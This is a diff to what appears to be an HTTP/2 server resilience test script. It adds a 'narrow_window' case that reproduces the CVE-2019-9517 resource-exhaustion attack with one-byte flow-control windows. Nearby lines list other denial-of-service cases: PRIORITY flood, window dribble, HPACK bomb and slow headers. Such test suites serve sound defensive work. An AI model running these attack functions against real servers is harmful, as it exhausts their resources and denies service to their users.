@@ -163,6 +163,16 @@ def zero_window():
     return True
 
 
+def narrow_window():
+    # The same with a byte for each: something of every answer is on its way.
+    large = [field if field[0] != ":path" else (":path", "/large") for field in FIELDS]
+    connection = connect({SettingsFrame.INITIAL_WINDOW_SIZE: 1})
+    connection.sendall(b"".join(headers(2 * n + 1, large) for n in range(100)))
+    time.sleep(5)
+    connection.close()
+    return True
+
+
 def dribble():
     # The window is opened by a byte at a time (CVE-2019-9511).
     large = [field if field[0] != ":path" else (":path", "/large") for field in FIELDS]
@@ -233,6 +243,7 @@ attack("PRIORITY flood (CVE-2019-9513)", True, same(PriorityFrame(1, depends_on=
 attack("window dribble (CVE-2019-9511)", True, dribble)
 attack("HPACK bomb (CVE-2016-6581)", False, bomb)
 attack("zero windows (CVE-2019-9517)", False, zero_window)
+attack("windows of a byte (CVE-2019-9517)", False, narrow_window)
 attack("half a header block", True, half_a_head)
 attack("half a preface", True, half_a_preface)
 attack("500 slow heads", True, slow_heads)
